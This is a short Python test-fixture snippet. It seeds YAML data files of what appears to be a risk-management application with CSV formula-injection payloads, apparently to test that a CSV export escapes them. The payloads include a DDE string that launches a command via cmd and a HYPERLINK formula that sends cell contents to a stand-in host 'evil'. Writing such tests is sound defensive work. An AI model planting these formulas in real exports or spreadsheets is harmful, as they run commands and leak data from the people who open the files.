# Spreadsheet formulas in every text a CSV cell holds (issue 10, item 3).
unit = REPO / "lianzheng.yaml"  # noqa: F821 (REPO is given by the fixture builder)
text = unit.read_text(encoding="utf-8")
text = text.replace("name: 财务科", """name: "@SUM(1+1)*cmd|' /C calc'!A0\"""")
text = text.replace("name: 出纳岗", 'name: "+出纳岗"')
unit.write_text(text, encoding="utf-8")
posts = REPO / "risks" / "posts.yaml"  # noqa: F821
text = posts.read_text(encoding="utf-8")
text = text.replace("title: 违规报销", """title: '=HYPERLINK("http://evil/?"&A1,"click")'""")
text = text.replace("id: R-FIN-01", 'id: "-2+3"')
posts.write_text(text, encoding="utf-8")
power = REPO / "powers" / "P-1.yaml"  # noqa: F821
text = power.read_text(encoding="utf-8")
text = text.replace("    title: 违规受理\n", '    title: "\\t=1+1"\n')
power.write_text(text, encoding="utf-8")
